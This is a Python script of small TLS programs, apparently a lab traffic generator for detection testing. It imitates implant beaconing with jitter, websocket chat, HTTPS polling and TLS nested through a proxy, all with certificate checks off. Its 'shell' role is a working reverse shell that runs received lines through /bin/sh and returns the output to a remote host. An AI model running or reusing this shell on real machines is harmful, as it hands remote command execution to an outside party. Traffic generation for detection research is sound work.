# SPDX-License-Identifier: LGPL-2.1-or-later
"""Small TLS programs: `tlstalk.py ROLE ADDRESS PORT CERTIFICATE|OPTIONS...`.

Servers: `beacon` reads length-framed reports and answers each with a task, `chat` is a websocket server (RFC 6455) that
answers and pings. Clients: `call` reports over one kept connection, `shell` gives a shell away, `talk` chats, `poll`
asks a web server again and again, `nested` opens TLS inside TLS through a proxy.
"""

import base64
import http.client
import os
import random
import socket
import ssl
import subprocess
import sys
import threading
import time


def context() -> ssl.SSLContext:
    """TLS as a program without concern for certificates uses it."""
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def connect(host: str, port: int) -> ssl.SSLSocket:
    """Open a TLS connection."""
    return context().wrap_socket(socket.create_connection((host, port)), server_hostname="lab.example")


def exactly(stream: ssl.SSLSocket, size: int) -> bytes:
    """Read so many bytes; an empty answer is the end."""
    data = b""
    while len(data) < size:
        more = stream.recv(size - len(data))
        if not more:
            raise SystemExit(0)
        data += more
    return data


def serve(kind: str, host: str, port: int, pem: str) -> None:
    """Serve for ever, a thread for each caller."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    made.load_cert_chain(pem)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((host, port))
        listener.listen()
        while True:
            caller, _ = listener.accept()
            task = {"beacon": answer, "chat": chat}[kind]
            threading.Thread(target=task, args=(made, caller), daemon=True).start()


def answer(made: ssl.SSLContext, caller: socket.socket) -> None:
    """Answer each report with "nothing to do", padded as implants do."""
    with made.wrap_socket(caller, server_side=True) as stream:
        while True:
            exactly(stream, int.from_bytes(exactly(stream, 4)))
            stream.sendall((48).to_bytes(4) + os.urandom(48))


def call(host: str, port: int, rounds: int, pause: float, jitter: float, size: int) -> None:
    """Report, take the task, sleep; the pause varies by the share `jitter`."""
    with connect(host, port) as stream:
        for _ in range(rounds):
            stream.sendall(size.to_bytes(4) + os.urandom(size))
            exactly(stream, int.from_bytes(exactly(stream, 4)))
            time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))


def poll(host: str, port: int, rounds: int, pause: float, jitter: float, path: str) -> None:
    """Ask a web server for one path again and again over one connection."""
    web = http.client.HTTPSConnection(host, port, context=context())
    for _ in range(rounds):
        web.request("GET", path, headers={"User-Agent": "Mozilla/5.0", "Cookie": "id=" + os.urandom(16).hex()})
        web.getresponse().read()
        time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))


def shell(host: str, port: int) -> None:
    """Give a shell away: run each line that comes and send what it says."""
    with connect(host, port) as stream:
        stream.sendall(b"$ ")
        line = b""
        while data := stream.recv(4096):
            line += data
            if not line.endswith(b"\n"):
                continue
            if line.strip() == b"exit":
                return
            done = subprocess.run(["/bin/sh", "-c", line.decode()], capture_output=True, timeout=20, check=False)
            stream.sendall(done.stdout + done.stderr + b"$ ")
            line = b""


def frame(data: bytes, mask: bool, kind: int = 1) -> bytes:
    """Return a websocket frame of at most 65,535 bytes."""
    bit = 128 if mask else 0
    head = bytes([128 | kind]) + (
        bytes([bit | len(data)]) if len(data) < 126 else bytes([bit | 126]) + len(data).to_bytes(2)
    )
    return head + (os.urandom(4) if mask else b"") + data


def unframe(stream: ssl.SSLSocket) -> int:
    """Read a frame and return its kind."""
    kind, size = exactly(stream, 2)
    length = size & 127
    if length == 126:
        length = int.from_bytes(exactly(stream, 2))
    exactly(stream, length + (4 if size & 128 else 0))
    return kind & 15


def head(stream: ssl.SSLSocket) -> None:
    """Read an HTTP head."""
    data = b""
    while not data.endswith(b"\r\n\r\n"):
        data += exactly(stream, 1)


def chat(made: ssl.SSLContext, caller: socket.socket) -> None:
    """Take a websocket; answer texts, push news at random times, ping every 5 s."""
    with made.wrap_socket(caller, server_side=True) as stream:
        head(stream)
        stream.sendall(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n"
        )

        def push() -> None:
            while True:
                time.sleep(random.uniform(2, 6))
                if random.random() < 0.4:
                    stream.sendall(frame(b"", False, 9))
                else:
                    stream.sendall(frame(os.urandom(random.randint(20, 900)), False))

        threading.Thread(target=push, daemon=True).start()
        while True:
            if unframe(stream) == 1 and random.random() < 0.7:
                stream.sendall(frame(os.urandom(random.randint(20, 400)), False))


def talk(host: str, port: int, rounds: int, pause: float) -> None:
    """Chat over a websocket; pings are answered."""
    with connect(host, port) as stream:
        stream.sendall(
            b"GET /chat HTTP/1.1\r\nHost: lab.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
            b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36\r\nOrigin: https://lab.example\r\n\r\n"
        )
        head(stream)

        def listen() -> None:
            while True:
                if unframe(stream) == 9:
                    stream.sendall(frame(b"", True, 10))

        threading.Thread(target=listen, daemon=True).start()
        for _ in range(rounds):
            time.sleep(pause * random.uniform(0.3, 2))
            stream.sendall(frame(os.urandom(random.randint(10, 200)), True))


def nested(host: str, port: int, target: str, pages: int, pause: float) -> None:
    """Speak HTTPS through a proxy that is reached by TLS; TLS inside TLS by memory buffers, as proxies' clients do."""
    outer = connect(host, port)
    if target != "-":
        agent = base64.b64encode(os.urandom(12)).decode()
        outer.sendall(
            f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Basic {agent}\r\n"
            f"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\r\n".encode()
        )
        head(outer)
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    made = context()
    made.set_alpn_protocols(["http/1.1"])
    inner = made.wrap_bio(coming, going, server_hostname="inner.example")

    def step(action):
        while True:
            try:
                result = action()
            except ssl.SSLWantReadError:
                result = None
            if data := going.read():
                outer.sendall(data)
            if result is not None:
                return result
            coming.write(outer.recv(65536))

    step(lambda: inner.do_handshake() or True)
    for page in ("/", "/style.css", "/code.js", "/photo.jpg")[:pages]:
        request = f"GET {page} HTTP/1.1\r\nHost: inner.example\r\nAccept: */*\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
        step(lambda text=request: inner.write(text.encode()))
        size, want, data = 0, None, b""
        while want is None or size < want:
            data = step(lambda: inner.read(65536))
            if want is None:
                text = data.partition(b"\r\n\r\n")
                want = int(text[0].lower().split(b"content-length:")[1].split()[0])
                size = len(text[2])
            else:
                size += len(data)
        time.sleep(pause)
    outer.close()


if __name__ == "__main__":
    role, address, number, *more = sys.argv[1:]
    if role in ("beacon", "chat"):
        serve(role, address, int(number), more[0])
    elif role == "call":
        call(address, int(number), int(more[0]), float(more[1]), float(more[2]), int(more[3]))
    elif role == "poll":
        poll(address, int(number), int(more[0]), float(more[1]), float(more[2]), more[3])
    elif role == "shell":
        shell(address, int(number))
    elif role == "talk":
        talk(address, int(number), int(more[0]), float(more[1]))
    elif role == "nested":
        nested(address, int(number), more[0], int(more[1]), float(more[2]))
    else:
        raise SystemExit(f"no such role: {role}")
